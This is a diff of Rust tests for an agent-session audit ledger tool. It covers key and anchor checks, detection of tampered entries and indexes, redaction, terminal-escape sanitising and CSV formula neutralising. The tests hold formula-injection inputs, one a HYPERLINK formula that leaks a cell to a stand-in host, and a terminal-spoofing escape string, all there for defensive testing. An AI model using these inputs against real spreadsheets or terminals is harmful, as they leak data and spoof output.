@@ -58,24 +58,36 @@ impl Fixture {
     fn path(&self, name: &str) -> String {
         self.directory.path().join(name).display().to_string()
     }
+
+    /// The root's public key, as an auditor has it.
+    fn key(&self) -> String {
+        let key = self.path("auditor.pub");
+        std::fs::copy(self.path("ledger.db.pub"), &key).unwrap();
+        key
+    }
 }
 
 #[test]
 fn verify_says_what_was_checked_and_ends_with_its_verdict() {
     let fixture = Fixture::new();
-    let (ledger, key, head) =
-        (fixture.path("ledger.db"), fixture.path("ledger.db.pub"), fixture.path("head"));
+    let (ledger, key, head) = (fixture.path("ledger.db"), fixture.key(), fixture.path("head"));
 
     let unanchored = countersign(&["ledger", "verify", &ledger]);
     assert_eq!(unanchored.status.code(), Some(1));
-    assert!(said(&unanchored).contains("give --key with a copy that you trust"), "{}", said(&unanchored));
+    assert!(
+        said(&unanchored).contains("Give --key with a copy that was kept elsewhere"),
+        "{}",
+        said(&unanchored)
+    );
     assert!(said(&unanchored).contains("vouches for entry 0"), "{}", said(&unanchored));
 
     let anchored = good(&["ledger", "verify", &ledger, "--key", &key, "--anchor", &head]);
     assert!(anchored.ends_with("VERIFIED, and an anchor covers the last entry.\n"), "{anchored}");
 
-    let json: Value =
-        serde_json::from_str(&good(&["ledger", "verify", &ledger, "--anchor", &head, "--json"])).unwrap();
+    let json: Value = serde_json::from_str(&good(&[
+        "ledger", "verify", &ledger, "--key", &key, "--anchor", &head, "--json",
+    ]))
+    .unwrap();
     assert_eq!((&json["verified"], &json["exit_code"]), (&true.into(), &0.into()));
     assert_eq!(json["anchored"], json["entries"]);
 
@@ -83,6 +95,286 @@ fn verify_says_what_was_checked_and_ends_with_its_verdict() {
     assert_eq!(code(&["ledger", "verify", &ledger, "--key", &fixture.path("nothing.pub")]), 2);
     assert_eq!(code(&["ledger", "verify", &ledger, "--anchor", &fixture.path("nothing")]), 2);
     assert_eq!(code(&["ledger", "verify"]), 2);
+}
+
+#[test]
+fn key_and_anchor_from_beside_the_ledger_vouch_for_nothing() {
+    let fixture = Fixture::new();
+    let (ledger, head, key) = (fixture.path("ledger.db"), fixture.path("head"), fixture.key());
+    let anchors = fixture.directory.path().join("anchors");
+    std::fs::create_dir(&anchors).unwrap();
+    let beside = anchors.join("head");
+    std::fs::copy(&head, &beside).unwrap();
+    let (beside, link) = (beside.to_str().unwrap(), fixture.path("link"));
+    std::os::unix::fs::symlink(fixture.path("ledger.db.pub"), &link).unwrap();
+    let own = fixture.path("ledger.db.pub");
+    let reservations = |arguments: &[&str]| {
+        let output = countersign(&[&["ledger", "verify", &ledger, "--json"], arguments].concat());
+        let json: Value = serde_json::from_slice(&output.stdout).unwrap();
+        assert_eq!(Some(json["exit_code"].as_i64().unwrap() as i32), output.status.code());
+        let all = json["reservations"].as_array().unwrap();
+        all.iter().map(|one| one["name"].as_str().unwrap().to_owned()).collect::<Vec<_>>()
+    };
+
+    assert_eq!(reservations(&["--key", &key, "--anchor", &head]), Vec::<String>::new());
+    assert_eq!(reservations(&["--anchor", &head]), ["key_beside"]);
+    for key in [&own, &link] {
+        assert_eq!(reservations(&["--key", key, "--anchor", &head]), ["key_beside"], "{key}");
+    }
+    assert_eq!(reservations(&["--key", &key, "--anchor", beside]), ["anchor_beside"]);
+    assert_eq!(reservations(&["--key", &key, "--anchor", beside, "--anchor", &head]), Vec::<String>::new());
+    assert_eq!(reservations(&["--key", &key]), ["tail_not_anchored"]);
+    assert_eq!(reservations(&[]), ["key_beside", "tail_not_anchored"]);
+}
+
+#[test]
+fn a_ledger_that_records_damage_is_verified_with_a_reservation() {
+    let running = Running::new();
+    let (ledger, log) = running.open();
+    run(&log, "select 1");
+    drop(log);
+    ledger.close();
+    // What a start finds after somebody took the spool of a run that had not ended.
+    std::fs::remove_file(running.directory.path().join("ledger.db.spool/ended")).unwrap();
+    let (ledger, log) = running.open();
+    assert!(ledger.recovery().damaged);
+    drop(log);
+    ledger.close();
+    let elsewhere = tempfile::tempdir().unwrap();
+    let copied = |name: &str| {
+        let to = elsewhere.path().join(name);
+        std::fs::copy(running.directory.path().join(name), &to).unwrap();
+        to.display().to_string()
+    };
+    let (copy, key, anchor) =
+        (copied("ledger.db"), elsewhere.path().join("a.pub"), elsewhere.path().join("anchor"));
+    std::fs::copy(running.directory.path().join("ledger.db.pub"), &key).unwrap();
+    let (key, anchor) = (key.to_str().unwrap(), anchor.to_str().unwrap());
+    good(&["ledger", "anchor", &copy, "-o", anchor]);
+
+    let output = countersign(&["ledger", "verify", &copy, "--key", key, "--anchor", anchor]);
+
+    assert_eq!(output.status.code(), Some(1), "{}", said(&output));
+    assert!(said(&output).contains("(recovered): the spool was damaged"), "{}", said(&output));
+    let json = countersign(&["ledger", "verify", &copy, "--key", key, "--anchor", anchor, "--json"]);
+    let json: Value = serde_json::from_slice(&json.stdout).unwrap();
+    assert_eq!(json["reservations"][0]["name"], "recorded_damage");
+    assert_eq!(json["damage"][0]["kind"], "recovered");
+}
+
+/// Every command that shows what entries say.
+fn showing<'a>(ledger: &'a str, seq: &'a str) -> Vec<Vec<&'a str>> {
+    vec![
+        vec!["ledger", "show", ledger, seq],
+        vec!["ledger", "show", ledger, seq, "--json"],
+        vec!["ledger", "query", ledger],
+        vec!["ledger", "query", ledger, "--json"],
+        vec!["ledger", "export", ledger],
+        vec!["ledger", "export", ledger, "--format", "csv"],
+        vec!["ledger", "tail", ledger, "-n", "1000"],
+        vec!["ledger", "tail", ledger, "-n", "1000", "--json"],
+    ]
+}
+
+#[test]
+fn a_text_that_was_exchanged_is_shown_by_no_command() {
+    for with_its_index in [true, false] {
+        let fixture = Fixture::new();
+        let ledger = fixture.path("ledger.db");
+        let connection = rusqlite::Connection::open(&ledger).unwrap();
+        let text = |seq: i64| {
+            let sql = "SELECT salt, value FROM payload WHERE seq = ?1 AND field = 40";
+            connection
+                .query_row(sql, [seq], |row| Ok((row.get::<_, Vec<u8>>(0)?, row.get::<_, Vec<u8>>(1)?)))
+                .unwrap()
+        };
+        let harmless = b"select 'nothing but this was asked'".to_vec();
+        let (salt, _) = text(9);
+        let sql = "UPDATE payload SET salt = ?1, value = ?2 WHERE seq = 9 AND field = 40";
+        connection.execute(sql, rusqlite::params![salt, harmless]).unwrap();
+        drop(connection);
+        if !with_its_index {
+            std::fs::remove_file(fixture.path("ledger.db.index.db")).unwrap();
+        }
+
+        for command in showing(&ledger, "9") {
+            let output = countersign(&command);
+            let said = said(&output);
+            assert!(!said.contains("nothing but this"), "{command:?}: {said}");
+            assert_eq!(output.status.code(), Some(20), "{command:?}: {said}");
+        }
+    }
+}
+
+#[test]
+fn an_entry_that_was_altered_is_shown_by_no_command() {
+    let fixture = Fixture::new();
+    let ledger = fixture.path("ledger.db");
+    let connection = rusqlite::Connection::open(&ledger).unwrap();
+    let body: Vec<u8> =
+        connection.query_row("SELECT body FROM entry WHERE seq = 9", [], |row| row.get(0)).unwrap();
+    let at = body.windows(13).position(|word| word == b"reporting-bot").unwrap();
+    let mut altered = body;
+    altered[at..at + 13].copy_from_slice(b"somebody-else");
+    connection.execute("UPDATE entry SET body = ?1 WHERE seq = 9", [altered]).unwrap();
+    drop(connection);
+    std::fs::remove_file(fixture.path("ledger.db.index.db")).unwrap();
+
+    for command in showing(&ledger, "9") {
+        let output = countersign(&command);
+        let said = said(&output);
+        assert!(!said.contains("somebody-else"), "{command:?}: {said}");
+        assert_eq!(output.status.code(), Some(15), "{command:?}: {said}");
+    }
+    assert_eq!(code(&["ledger", "prove", &ledger, "9"]), 2, "there is no proof of it");
+}
+
+#[test]
+fn an_index_that_says_something_else_is_not_believed() {
+    let lies = [
+        "UPDATE statement SET agent = 'mallory' WHERE seq = 9",
+        "UPDATE statement SET sql = 'select mallory' WHERE seq = 9",
+        "INSERT INTO outcome (seq, time, ref, ending, tag) VALUES (100000, '2026', 9, 'failed', 'mallory')",
+    ];
+    for lie in lies {
+        let fixture = Fixture::new();
+        let ledger = fixture.path("ledger.db");
+        let connection = rusqlite::Connection::open(fixture.path("ledger.db.index.db")).unwrap();
+        connection.execute_batch(lie).unwrap();
+        drop(connection);
+
+        for json in [&["--json"][..], &[]] {
+            let output = countersign(&[&["ledger", "query", &ledger], json].concat());
+            let said = said(&output);
+            assert!(!said.contains("mallory"), "{lie}: {said}");
+            assert_eq!(output.status.code(), Some(16), "{lie}: {said}");
+        }
+    }
+}
+
+/// What a terminal would obey, or draw as nothing.
+fn is_obeyed(c: char) -> bool {
+    let invisible = ['\u{ad}', '\u{34f}', '\u{61c}', '\u{115f}', '\u{3164}', '\u{feff}', '\u{2800}'];
+    let ranges = [
+        '\u{200b}'..='\u{200f}',
+        '\u{2028}'..='\u{202e}',
+        '\u{2060}'..='\u{206f}',
+        '\u{e0000}'..='\u{e007f}',
+    ];
+    c.is_control() && c != '\n' || invisible.contains(&c) || ranges.iter().any(|range| range.contains(&c))
+}
+
+#[test]
+fn nothing_that_an_agent_sent_is_obeyed_by_a_terminal() {
+    let spoof = "x\u{1b}[G\u{1b}[2K\u{9b}8m\u{202e}\u{2066}\u{200b}\u{feff}\u{ad}\u{3164}\u{e0041}\u{7}\u{7f}\r\nowners  else";
+    let running = Running::new();
+    let ledger = Ledger::open(&running.settings()).unwrap();
+    let mut info = session();
+    let claims = || Claims { task: Some(spoof.into()), purpose: Some(spoof.into()), ..Claims::default() };
+    info.claimed = claims();
+    let identity = Arc::make_mut(&mut info.identity);
+    identity.verified = claims();
+    identity.client_address = spoof.into();
+    let log = ledger.session_opened(&info).unwrap();
+    run(&log, &format!("select '{spoof}' as \"{spoof}\""));
+    log.claims(&Claims { model: Some(spoof.into()), ..Claims::default() });
+    log.closed(spoof);
+    drop(log);
+    ledger.close();
+
+    let exported = good(&["ledger", "export", running.path()]);
+    for seq in 0..exported.lines().count() {
+        for command in showing(running.path(), &seq.to_string()) {
+            let is_csv = command.contains(&"csv");
+            let said = good(&command);
+            let obeyed: Vec<char> = said.chars().filter(|c| !is_csv && is_obeyed(*c)).collect();
+            assert!(obeyed.is_empty(), "{command:?}: {obeyed:?}");
+            let passes = said.lines().any(|line| line.starts_with("owners  else"));
+            assert!(is_csv || !passes, "{command:?}: a line of the agent's passes for one of ours");
+        }
+    }
+}
+
+#[test]
+fn each_claim_is_exported_under_its_own_name_with_its_own_value() {
+    let running = Running::new();
+    let ledger = Ledger::open(&running.settings()).unwrap();
+    let mut info = session();
+    let purpose = "nightly, model=large-9, version=approved\n\"model\": \"large-9\", claimed.model=x";
+    info.claimed =
+        Claims { model: Some("small-1".into()), purpose: Some(purpose.into()), ..Claims::default() };
+    Arc::make_mut(&mut info.identity).verified =
+        Claims { model: Some("verified-1".into()), ..Claims::default() };
+    let log = ledger.session_opened(&info).unwrap();
+    run(&log, "select 1");
+    drop(log);
+    ledger.close();
+
+    let exported = good(&["ledger", "export", running.path()]);
+    let mut seen = 0;
+    for line in exported.lines() {
+        let entry: Value = serde_json::from_str(line).unwrap();
+        if entry.get("claimed").is_some() {
+            assert_eq!(entry["claimed"], serde_json::json!({ "model": "small-1", "purpose": purpose }));
+            assert_eq!(entry["verified"], serde_json::json!({ "model": "verified-1" }));
+            seen += 1;
+        }
+    }
+    assert!(seen >= 2, "{exported}");
+    let csv = good(&["ledger", "export", running.path(), "--format", "csv"]);
+    let mut rows = csv::Reader::from_reader(csv.as_bytes());
+    let column = rows.headers().unwrap().iter().position(|name| name == "claimed").unwrap();
+    let cells: Vec<String> =
+        rows.records().map(|row| row.unwrap()[column].to_owned()).filter(|cell| !cell.is_empty()).collect();
+    for cell in &cells {
+        let claims: Value = serde_json::from_str(cell).unwrap();
+        assert_eq!(claims, serde_json::json!({ "model": "small-1", "purpose": purpose }));
+    }
+    assert_eq!(cells.len(), seen);
+}
+
+#[test]
+fn no_cell_of_a_csv_export_is_a_formula() {
+    let running = Running::new();
+    let (ledger, log) = running.open();
+    let texts = [
+        "=HYPERLINK(\"http://x/?\"&B2,\"y\")",
+        "@SUM(1)",
+        "+1",
+        "-2+3",
+        " =1",
+        "\t=1",
+        "\r\n=1",
+        "\"=1",
+        "＝1",
+        "'=1",
+        "=\u{200b}1",
+        "\u{feff}=1",
+        "a;=1",
+    ];
+    for text in texts {
+        run(&log, text);
+    }
+    drop(log);
+    ledger.close();
+
+    let csv = good(&["ledger", "export", running.path(), "--format", "csv"]);
+
+    let mut rows = csv::Reader::from_reader(csv.as_bytes());
+    let column = rows.headers().unwrap().iter().position(|name| name == "sql").unwrap();
+    let mut found = Vec::new();
+    for row in rows.records().map(Result::unwrap) {
+        for cell in &row {
+            let seen = cell.trim_start_matches(|c: char| {
+                c.is_whitespace() || c.is_control() || "\"\u{feff}".contains(c)
+            });
+            assert!(!seen.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']), "{cell:?}");
+            assert!(!cell.starts_with(['\t', '\r', '\n']), "{cell:?}");
+        }
+        // Without its first apostrophe, each is what was sent.
+        found.extend(Some(row[column].strip_prefix('\'').unwrap_or(&row[column]).to_owned()));
+    }
+    assert!(texts.iter().all(|text| found.iter().any(|cell| cell == text)), "{found:?}");
 }
 
 #[test]
@@ -133,7 +425,7 @@ fn an_anchor_from_the_command_line_is_one_to_verify() {
 
     good(&["ledger", "anchor", &ledger, "-o", &anchor]);
 
-    assert_eq!(code(&["ledger", "verify", &ledger, "--anchor", &anchor]), 0);
+    assert_eq!(code(&["ledger", "verify", &ledger, "--key", &fixture.key(), "--anchor", &anchor]), 0);
     assert_eq!(code(&["ledger", "anchor", &ledger, "-o", &anchor]), 2, "nothing is overwritten");
 }
 
@@ -224,6 +516,48 @@ impl Running {
     fn path(&self) -> &str {
         self.ledger.to_str().unwrap()
     }
+
+    /// Files of the ledger, its spool and its index among them, in which these words are.
+    fn files_with(&self, words: &str) -> Vec<PathBuf> {
+        fn walk(folder: &Path, words: &[u8], found: &mut Vec<PathBuf>) {
+            for entry in std::fs::read_dir(folder).unwrap().flatten() {
+                let path = entry.path();
+                if path.is_dir() {
+                    walk(&path, words, found);
+                } else if std::fs::read(&path).unwrap().windows(words.len()).any(|window| window == words) {
+                    found.push(path);
+                }
+            }
+        }
+        let mut found = Vec::new();
+        walk(self.directory.path(), words.as_bytes(), &mut found);
+        found
+    }
+}
+
+#[test]
+fn a_redaction_that_somebody_keeps_from_being_carried_out_does_not_say_that_it_was() {
+    let running = Running::new();
+    let (ledger, log) = running.open();
+    run(&log, "select 'a secret that somebody still reads'");
+    run(&log, "select 'more'");
+    assert!(ledger.flush(Duration::from_secs(10)));
+    let rows: Value =
+        serde_json::from_str(&good(&["ledger", "query", running.path(), "--contains", "secret", "--json"]))
+            .unwrap();
+    // A reader's snapshot keeps the write-ahead log.
+    let reader = rusqlite::Connection::open(&running.ledger).unwrap();
+    reader.execute_batch("BEGIN; SELECT count(*) FROM entry").unwrap();
+
+    let output =
+        countersign(&["ledger", "redact", running.path(), &rows[0]["seq"].to_string(), "--reason", "x"]);
+
+    assert_eq!(output.status.code(), Some(1), "{}", said(&output));
+    assert!(said(&output).contains("Somebody may be reading"), "{}", said(&output));
+    reader.execute_batch("COMMIT").unwrap();
+    drop(log);
+    ledger.close();
+    assert_eq!(running.files_with("somebody still reads"), Vec::<PathBuf>::new());
 }
 
 fn session() -> SessionInfo {
@@ -320,18 +654,20 @@ fn texts_are_redacted_with_and_without_a_running_proxy() {
                 .unwrap();
         rows[0]["seq"].to_string()
     };
+    // What searches have left open, the index among it, must not keep it either.
+    let reader = rusqlite::Connection::open(running.ledger.with_file_name("ledger.db.index.db")).unwrap();
     let live = good(&["ledger", "redact", running.path(), &seq("first"), "--reason", "asked to"]);
     assert_eq!(live, "redacted 1 texts\n");
+    drop(reader);
+    assert_eq!(running.files_with("first secret"), Vec::<PathBuf>::new());
+    assert!(!running.files_with("second secret").is_empty());
     drop(log);
     ledger.close();
     good(&["ledger", "redact", running.path(), &seq("second"), "--reason", "asked to, too"]);
 
     assert_eq!(count(running.path(), "secret"), 0);
     assert_eq!(code(&["ledger", "verify", running.path()]), 1);
-    for name in ["ledger.db", "ledger.db.index.db", "ledger.db-wal", "ledger.db.index.db-wal"] {
-        let bytes = std::fs::read(running.ledger.with_file_name(name)).unwrap_or_default();
-        assert!(!bytes.windows(6).any(|word| word == b"secret"), "{name}");
-    }
+    assert_eq!(running.files_with("secret"), Vec::<PathBuf>::new());
     let again = good(&["ledger", "redact", running.path(), "5", "--reason", "twice"]);
     assert!(again.starts_with("nothing to redact"), "{again}");
 }
